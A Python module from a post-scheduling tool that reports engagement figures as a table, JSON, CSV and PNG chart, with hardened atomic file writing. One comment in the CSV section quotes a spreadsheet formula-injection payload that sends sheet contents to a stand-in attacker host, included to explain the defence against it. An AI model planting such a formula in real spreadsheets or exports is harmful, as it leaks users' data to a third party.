"""The engagement report: per vignette and platform the latest figures and the change since
the previous snapshot, as a table, JSON, a CSV (one row per snapshot) and a PNG chart.

Reading is one query of plain columns (no ORM objects, no raw responses), so the report of
10,000 posts stays well under a second. matplotlib is imported inside `write_chart` only:
`vignettes --help` and every other command never pay for it.
"""

from __future__ import annotations

import contextlib
import csv
import datetime as dt
import os
import stat
import tempfile
from collections.abc import Callable, Iterable, Mapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import IO, Any

from sqlalchemy import and_, select
from sqlalchemy.orm import Session

from scheduler.engagement import FIGURES
from scheduler.errors import SchedulerError
from scheduler.platforms.registry import INFO, NOT_OFFERED, not_offered
from vignettes.models import CaseStudy, EngagementPlatform, EngagementSnapshot, MonthlySlot, Post
from vignettes.store import Store

# The CSV's columns, in order. Documented in README.md and docs/engagement.md: add new
# columns at the end, never rename or reorder (people build spreadsheets on them).
CSV_COLUMNS = (
    "month",
    "ref",
    "title",
    "platform",
    "remote_id",
    "url",
    "posted_at",
    "offset",
    "taken_at",
    "state",
    *FIGURES,
    "engagement_rate",
    "unavailable",
)
REPORTED_STATES = ("taken", "unavailable")
PLATFORM_NAMES = {name: info.label for name, info in INFO.items()}
# NHS identity colours, each at least 3:1 against white (WCAG 1.4.11 graphical objects);
# platforms and vignettes also differ by hatch, line style and marker, not colour alone.
PLATFORM_COLOURS = {name: info.colour for name, info in INFO.items()}
PLATFORM_HATCH = {name: info.hatch for name, info in INFO.items()}
PLATFORM_LINE = {name: info.line for name, info in INFO.items()}
VIGNETTE_COLOURS = ("#005EB8", "#006747", "#7C2855", "#330072", "#425563", "#8A1538")
MARKERS = ("o", "s", "^", "D", "v", "P")
TEXT_COLOUR = "#231F20"
CHART_SIZE = (12.0, 10.0)  # inches
CHART_DPI = 100  # → 1200 x 1000 pixels
CHART_LAST_VIGNETTES = 6


@dataclass(frozen=True)
class Snapshot:
    """One reported snapshot (taken, or unavailable with reasons)."""

    offset: str
    offset_seconds: int
    taken_at: dt.datetime | None
    state: str
    figures: Mapping[str, int | None]
    engagement_rate: float | None
    unavailable: tuple[str, ...]

    def to_json(self) -> dict[str, Any]:
        return {
            "offset": self.offset,
            "taken_at": self.taken_at.isoformat() if self.taken_at else None,
            "state": self.state,
            **self.figures,
            "engagement_rate": self.engagement_rate,
            "unavailable": list(self.unavailable),
        }


@dataclass
class PostEngagement:
    """One vignette on one platform, with its snapshots oldest first."""

    month: str
    ref: str
    title: str
    platform: str
    remote_id: str
    url: str
    posted_at: dt.datetime | None
    snapshots: list[Snapshot] = field(default_factory=list)

    @property
    def taken(self) -> list[Snapshot]:
        return [s for s in self.snapshots if s.state == "taken"]

    @property
    def latest(self) -> Snapshot | None:
        taken = self.taken
        return taken[-1] if taken else None

    @property
    def previous(self) -> Snapshot | None:
        taken = self.taken
        return taken[-2] if len(taken) > 1 else None

    @property
    def unavailable(self) -> tuple[str, ...]:
        """Why figures are missing, from the most recent snapshot of any kind."""
        return self.snapshots[-1].unavailable if self.snapshots else ()

    def latest_known(self) -> dict[str, int | None]:
        """Per figure, its value in the latest snapshot that had it. Counts only grow, and
        a figure can become unreadable later (X's private metrics after 30 days), so this
        is what the chart sums rather than dropping link clicks at 90 days."""
        known: dict[str, int | None] = dict.fromkeys(FIGURES)
        for snapshot in self.taken:
            for name in FIGURES:
                if snapshot.figures.get(name) is not None:
                    known[name] = snapshot.figures[name]
        return known

    def change(self) -> dict[str, int | float | None]:
        """Latest minus previous snapshot, per figure (None where either is unknown)."""
        latest, previous = self.latest, self.previous
        out: dict[str, int | float | None] = {}
        if latest is None or previous is None:
            return out
        for name in FIGURES:
            a, b = latest.figures.get(name), previous.figures.get(name)
            out[name] = a - b if a is not None and b is not None else None
        a_rate, b_rate = latest.engagement_rate, previous.engagement_rate
        out["engagement_rate"] = (
            round(a_rate - b_rate, 6) if a_rate is not None and b_rate is not None else None
        )
        return out

    def to_json(self) -> dict[str, Any]:
        latest, previous = self.latest, self.previous
        return {
            "month": self.month,
            "ref": self.ref,
            "title": self.title,
            "platform": self.platform,
            "remote_id": self.remote_id,
            "url": self.url,
            "posted_at": self.posted_at.isoformat() if self.posted_at else None,
            "latest": latest.to_json() if latest else None,
            "previous": previous.to_json() if previous else None,
            "change": self.change(),
            "unavailable": list(self.unavailable),
            "snapshots": len(self.snapshots),
        }


def load(
    store: Store,
    *,
    since: str | None = None,
    platform: str | None = None,
    ref: str | None = None,
) -> list[PostEngagement]:
    """Every posted vignette (filtered by month ≥ `since`, platform, ref) with its reported
    snapshots, ordered by month and platform."""
    snap = EngagementSnapshot
    stmt = (
        select(
            MonthlySlot.month,
            CaseStudy.ref,
            CaseStudy.title,
            Post.id,
            Post.platform,
            Post.remote_id,
            Post.url,
            Post.posted_at,
            snap.offset_label,
            snap.offset_seconds,
            snap.taken_at,
            snap.state,
            *(getattr(snap, name) for name in FIGURES),
            snap.engagement_rate,
            snap.unavailable,
        )
        .select_from(Post)
        .join(MonthlySlot, MonthlySlot.id == Post.slot_id)
        .join(CaseStudy, CaseStudy.id == Post.case_study_id)
        .outerjoin(snap, and_(snap.post_id == Post.id, snap.state.in_(REPORTED_STATES)))
        .where(Post.state == "posted")
        .order_by(MonthlySlot.month, Post.platform, Post.id, snap.offset_seconds)
    )
    if since:
        stmt = stmt.where(MonthlySlot.month >= since)
    if platform:
        stmt = stmt.where(Post.platform == platform)
    if ref:
        stmt = stmt.where(CaseStudy.ref == ref)
    out: list[PostEngagement] = []
    by_post: dict[int, PostEngagement] = {}
    n = len(FIGURES)
    with store.read() as session:
        for result in session.execute(stmt):
            row: tuple[Any, ...] = tuple(result)
            month, cs_ref, title, post_id, plat, remote_id, url, posted_at = row[:8]
            entry = by_post.get(post_id)
            if entry is None:
                entry = PostEngagement(
                    month, cs_ref, title, plat, remote_id or "", url or "", posted_at
                )
                by_post[post_id] = entry
                out.append(entry)
            label, seconds, taken_at, state = row[8:12]
            if state is None:
                continue  # posted, nothing reported yet
            entry.snapshots.append(
                Snapshot(
                    label,
                    seconds,
                    taken_at,
                    state,
                    dict(zip(FIGURES, row[12 : 12 + n], strict=True)),
                    row[12 + n],
                    tuple(row[13 + n] or ()),
                )
            )
    return out


def platform_states(session: Session) -> dict[str, dict[str, Any]]:
    """Per platform: rate-limit wait, whole-platform refusal, and figures the last round
    could not read, with reasons (for `status` and the report)."""
    out = {}
    for row in session.scalars(select(EngagementPlatform).order_by(EngagementPlatform.platform)):
        out[row.platform] = {
            "last_polled_at": row.last_polled_at.isoformat() if row.last_polled_at else None,
            "blocked_until": row.blocked_until.isoformat() if row.blocked_until else None,
            "blocked_reason": row.blocked_reason or None,
            "unavailable_since": (
                row.unavailable_since.isoformat() if row.unavailable_since else None
            ),
            "unavailable_reason": row.unavailable_reason or None,
            "gaps": list(row.gaps or []),
        }
    return out


def report_json(entries: Sequence[PostEngagement], states: Mapping[str, Any]) -> dict[str, Any]:
    return {"vignettes": [e.to_json() for e in entries], "platforms": dict(states)}


# ---- text --------------------------------------------------------------------------------

TABLE_FIGURES = ("impressions", "likes", "reposts", "replies", "link_clicks")


def _num(value: int | float | None, platform: str = "", figure: str = "") -> str:
    """A figure for people: "—" when the platform did not say, "not offered" when it has no
    such figure at all (Bluesky impressions: never shown as 0 or as a failed read)."""
    if value is None:
        return NOT_OFFERED if not_offered(platform, figure) else "—"
    return f"{value:,}"


def _delta(value: int | float | None) -> str:
    return "" if value is None else f" ({value:+,})"


def format_report(entries: Sequence[PostEngagement], states: Mapping[str, Any]) -> str:
    """A table for people: latest figures with the change since the previous snapshot,
    then why figures are missing (grouped), then platform-level waits and refusals."""
    headers = ["month", "ref", "platform", "after", *(f.replace("_", " ") for f in TABLE_FIGURES)]
    headers.append("rate")
    rows = []
    notes: dict[str, list[str]] = {}
    for e in entries:
        latest, change = e.latest, e.change()
        cells = [e.month, e.ref, PLATFORM_NAMES.get(e.platform, e.platform)]
        cells.append(latest.offset if latest else "not yet")
        for name in TABLE_FIGURES:
            value = latest.figures.get(name) if latest else None
            cells.append(_num(value, e.platform, name) + _delta(change.get(name)))
        rate = latest.engagement_rate if latest else None
        cells.append("—" if rate is None else f"{rate:.1%}")
        rows.append(cells)
        for reason in e.unavailable:
            notes.setdefault(reason, []).append(f"{e.month} {e.platform}")
    lines = [_table(headers, rows)] if rows else ["no posted vignettes match"]
    if notes:
        lines.append("")
        lines.append("unavailable figures:")
        for reason, where in notes.items():
            shown = ", ".join(where[:4]) + (f" and {len(where) - 4} more" if len(where) > 4 else "")
            lines.append(f"  - {reason} ({shown})")
    for name, state in states.items():
        label = PLATFORM_NAMES.get(name, name)
        if state.get("unavailable_reason"):
            lines.append(
                f"{label}: engagement unavailable since {state['unavailable_since']}: "
                f"{state['unavailable_reason']}"
            )
        if state.get("blocked_until"):
            lines.append(
                f"{label}: polling paused until {state['blocked_until']} "
                f"({state['blocked_reason']})"
            )
    return "\n".join(lines)


def _table(headers: Sequence[str], rows: Sequence[Sequence[str]]) -> str:
    widths = [max(len(h), *(len(r[i]) for r in rows)) for i, h in enumerate(headers)]
    out = ["  ".join(h.ljust(w) for h, w in zip(headers, widths, strict=True)).rstrip()]
    out.append("  ".join("-" * w for w in widths))
    out += ["  ".join(c.ljust(w) for c, w in zip(r, widths, strict=True)).rstrip() for r in rows]
    return "\n".join(out)


# ---- CSV -----------------------------------------------------------------------------------


# A spreadsheet (Excel, LibreOffice, Google Sheets) runs a cell beginning with one of these
# as a formula: `=HYPERLINK("https://evil.example/?"&A1,"Click")` in an imported title would
# leak the sheet. OWASP's advice is to make such cells text with a leading apostrophe.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_text(text: str) -> str:
    """`text` made safe for a CSV cell: prefixed with `'` when it begins with a character a
    spreadsheet would read as the start of a formula (`FORMULA_STARTS`), else unchanged.
    Only for text from outside; our own numbers and timestamps never need it."""
    return f"'{text}" if text.startswith(FORMULA_STARTS) else text


def csv_rows(entries: Iterable[PostEngagement]) -> Iterable[list[str]]:
    """The CSV's rows, one per snapshot, in `CSV_COLUMNS` order. Every text cell goes
    through `spreadsheet_text`; counts, the rate and timestamps are formatted here and are
    never negative, so they stay numbers."""
    text = spreadsheet_text
    for e in entries:
        for s in e.snapshots:
            yield [
                text(e.month),
                text(e.ref),
                text(e.title),
                text(e.platform),
                text(e.remote_id),
                text(e.url),
                e.posted_at.isoformat() if e.posted_at else "",
                text(s.offset),
                s.taken_at.isoformat() if s.taken_at else "",
                text(s.state),
                *("" if s.figures.get(f) is None else str(s.figures[f]) for f in FIGURES),
                "" if s.engagement_rate is None else f"{s.engagement_rate:.6f}",
                text("; ".join(s.unavailable)),
            ]


def write_csv(entries: Iterable[PostEngagement], path: str | os.PathLike[str]) -> int:
    """One row per snapshot under the `CSV_COLUMNS` header, UTF-8 (no byte-order mark),
    written as `replace_file` does. Returns the number of rows; raises ReportWriteError."""
    count = 0

    def write(fh: IO[Any]) -> None:
        nonlocal count
        writer = csv.writer(fh)
        writer.writerow(CSV_COLUMNS)
        for row in csv_rows(entries):
            writer.writerow(row)
            count += 1

    replace_file(path, write, text=True)
    return count


# ---- writing a report file -----------------------------------------------------------------


class ReportWriteError(SchedulerError):
    """The CSV or chart could not be written. The message names the path as the user gave
    it (never a temporary file); the CLI prints it and exits 1."""

    def __init__(self, path: str, reason: str) -> None:
        self.path = path
        self.reason = reason
        super().__init__(f"cannot write {path}: {reason}" if path else reason)


def output_path(path: str | os.PathLike[str]) -> Path:
    """`path` as a Path, or ReportWriteError if it is empty (`--csv ''`; `Path('')` would
    quietly mean the current folder) or holds a NUL character."""
    name = os.fspath(path)
    if not name:
        raise ReportWriteError("", "cannot write the report: the file name is empty")
    if "\0" in name:
        raise ReportWriteError(repr(name), "the file name contains a NUL character")
    return Path(name)


def replace_file(
    path: str | os.PathLike[str], write: Callable[[IO[Any]], None], *, text: bool = False
) -> None:
    """Write a whole file at `path`: `write` fills a new temporary file in the same folder,
    which is then renamed over `path`, so a reader never sees half a report. Missing
    folders are created. The file keeps the permissions of the one it replaces.

    Refuses (ReportWriteError, nothing written) a `path` that is a folder, a device, a
    fifo or any other non-regular file, and a symbolic link: renaming would replace the
    link, and following it would let whoever made the link choose what we overwrite (we
    often run as root). The temporary file is removed on every failure, and any OSError
    becomes a ReportWriteError naming `path` as given."""
    target = output_path(path)
    shown = os.fspath(path)
    _make_folder(target, shown)
    mode = _replaceable_mode(target, shown)
    try:
        # Unique and created exclusively: a planted `.x.csv.tmp` link cannot redirect us.
        # The name is cut so a long target name does not make the temporary one too long.
        fd, tmp_name = tempfile.mkstemp(
            dir=target.parent, prefix=f".{target.name[:64]}.", suffix=".tmp"
        )
    except OSError as exc:
        reason = f"cannot create a file in {target.parent} ({exc.strerror or exc})"
        raise ReportWriteError(shown, reason) from exc
    replaced = False
    try:
        opened = os.fdopen(fd, "w", encoding="utf-8", newline="") if text else os.fdopen(fd, "wb")
        with opened as fh:
            os.fchmod(fh.fileno(), mode)
            write(fh)
            fh.flush()
            os.fsync(fh.fileno())
        os.replace(tmp_name, target)
        replaced = True
    except OSError as exc:
        raise ReportWriteError(shown, exc.strerror or str(exc)) from exc
    finally:
        if not replaced:
            with contextlib.suppress(OSError):
                os.unlink(tmp_name)


def _make_folder(target: Path, shown: str) -> None:
    """Create the folder `target` goes in, naming the part of the path that is not a
    folder (`--csv afile/x.csv`) rather than passing on "File exists"."""
    try:
        target.parent.mkdir(parents=True, exist_ok=True)
    except (FileExistsError, NotADirectoryError) as exc:
        for folder in (*reversed(target.parent.parents), target.parent):
            if os.path.lexists(folder) and not folder.is_dir():
                raise ReportWriteError(shown, f"{folder} is not a folder") from exc
        raise ReportWriteError(shown, exc.strerror or str(exc)) from exc
    except OSError as exc:
        reason = f"cannot create the folder {target.parent} ({exc.strerror or exc})"
        raise ReportWriteError(shown, reason) from exc


def _replaceable_mode(target: Path, shown: str) -> int:
    """The permission bits for the new file: those of the regular file it replaces, or
    the usual 0666 less the umask. ReportWriteError if `target` is anything else."""
    try:
        info = os.lstat(target)
    except FileNotFoundError:
        umask = os.umask(0o022)
        os.umask(umask)
        return 0o666 & ~umask
    except OSError as exc:
        raise ReportWriteError(shown, exc.strerror or str(exc)) from exc
    if stat.S_ISLNK(info.st_mode):
        reason = f"it is a symbolic link (to {os.readlink(target)}); give the file's own path"
        raise ReportWriteError(shown, reason)
    if stat.S_ISDIR(info.st_mode):
        raise ReportWriteError(shown, "it is a folder")
    if not stat.S_ISREG(info.st_mode):
        raise ReportWriteError(shown, "not a regular file")
    return stat.S_IMODE(info.st_mode) & 0o777  # never carry set-id bits over to a report


# ---- chart ---------------------------------------------------------------------------------


def engagements(entry: PostEngagement) -> int:
    """Interactions of one post, latest known: likes, reposts, replies, quotes, link clicks
    and bookmarks (impressions are views, not engagement)."""
    return sum(v or 0 for k, v in entry.latest_known().items() if k != "impressions")


def write_chart(entries: Sequence[PostEngagement], path: str | os.PathLike[str]) -> None:
    """A 1200 x 1000 PNG: engagement per month per platform (bars), and impressions over
    the days since posting for the last 6 vignettes (lines), written as `replace_file`
    does. Raises ReportWriteError."""
    output_path(path)  # an empty name fails before matplotlib is imported and drawn
    from matplotlib.backends.backend_agg import FigureCanvasAgg
    from matplotlib.figure import Figure
    from matplotlib.ticker import FuncFormatter

    fig = Figure(figsize=CHART_SIZE, dpi=CHART_DPI, facecolor="white", layout="constrained")
    FigureCanvasAgg(fig)
    top, bottom = fig.subplots(2, 1)
    thousands = FuncFormatter(lambda value, _pos: f"{value:,.0f}")
    for ax in (top, bottom):
        ax.set_facecolor("white")
        ax.yaxis.set_major_formatter(thousands)
        ax.grid(axis="y", color="#AEB7BD", linewidth=0.6)
        ax.set_axisbelow(True)
        ax.tick_params(colors=TEXT_COLOUR, labelsize=11)
        for spine in ax.spines.values():
            spine.set_color("#425563")

    months = sorted({e.month for e in entries if e.latest})[-24:]
    platforms = sorted({e.platform for e in entries if e.latest})
    top.set_title("Engagement per month, by platform", fontsize=15, color=TEXT_COLOUR)
    top.set_xlabel("Vignette month", fontsize=12, color=TEXT_COLOUR)
    top.set_ylabel("Engagements (likes, reposts, replies, clicks…)", fontsize=12)
    if months:
        width = 0.8 / max(len(platforms), 1)
        for i, name in enumerate(platforms):
            totals = dict.fromkeys(months, 0)
            for e in entries:
                if e.platform == name and e.month in totals and e.latest:
                    totals[e.month] += engagements(e)
            top.bar(
                [m + (i - (len(platforms) - 1) / 2) * width for m in range(len(months))],
                list(totals.values()),
                width=width,
                label=PLATFORM_NAMES.get(name, name),
                color=PLATFORM_COLOURS.get(name, "#425563"),
                hatch=PLATFORM_HATCH.get(name, ""),
                edgecolor="white",
            )
        top.set_xticks(range(len(months)), months, rotation=45 if len(months) > 8 else 0)
        top.legend(fontsize=11, frameon=False)
    else:
        _empty(top)

    recent = sorted({(e.month, e.ref) for e in entries if e.taken})[-CHART_LAST_VIGNETTES:]
    silent = sorted(
        {
            PLATFORM_NAMES.get(e.platform, e.platform)
            for e in entries
            if not_offered(e.platform, "impressions")
        }
    )
    bottom.set_title(
        f"Impressions since posting: the last {len(recent) or CHART_LAST_VIGNETTES} vignettes"
        + (f" ({', '.join(silent)}: impressions not offered)" if silent else ""),
        fontsize=15,
        color=TEXT_COLOUR,
    )
    bottom.set_xlabel("Days since posting", fontsize=12, color=TEXT_COLOUR)
    bottom.set_ylabel("Impressions", fontsize=12, color=TEXT_COLOUR)
    for i, (month, ref) in enumerate(recent):
        for e in entries:
            if (e.month, e.ref) != (month, ref) or e.posted_at is None:
                continue
            points = [
                ((s.taken_at - e.posted_at).total_seconds() / 86400, s.figures["impressions"])
                for s in e.taken
                if s.taken_at is not None and s.figures.get("impressions") is not None
            ]
            if not points:
                continue
            xs, ys = zip(*points, strict=True)
            bottom.plot(
                xs,
                ys,
                color=VIGNETTE_COLOURS[i % len(VIGNETTE_COLOURS)],
                linestyle=PLATFORM_LINE.get(e.platform, ":"),
                marker=MARKERS[i % len(MARKERS)],
                linewidth=2,
                label=f"{month} {ref} · {PLATFORM_NAMES.get(e.platform, e.platform)}",
            )
    if bottom.lines:
        bottom.legend(fontsize=10, frameon=False, ncols=2)
    else:
        _empty(bottom)
    replace_file(path, lambda fh: fig.savefig(fh, dpi=CHART_DPI, format="png", facecolor="white"))


def _empty(ax: Any) -> None:
    ax.text(
        0.5,
        0.5,
        "No engagement recorded yet",
        ha="center",
        va="center",
        fontsize=13,
        color=TEXT_COLOUR,
        transform=ax.transAxes,
    )


# ---- preview -------------------------------------------------------------------------------


def preview_rows(entries: Iterable[PostEngagement]) -> dict[str, list[dict[str, object]]]:
    """For the preview page: per platform, one row per snapshot, formatted for people."""
    out: dict[str, list[dict[str, object]]] = {}
    for e in entries:
        rows = out.setdefault(e.platform, [])
        for s in e.snapshots:
            row: dict[str, object] = {
                "after": s.offset,
                "taken (UTC)": f"{s.taken_at:%Y-%m-%d %H:%M}" if s.taken_at else "",
            }
            row |= {f.replace("_", " "): _num(s.figures.get(f), e.platform, f) for f in FIGURES}
            rate = s.engagement_rate
            row["rate"] = "—" if rate is None else f"{rate:.1%}"
            row["unavailable"] = "; ".join(s.unavailable)
            rows.append(row)
    return out
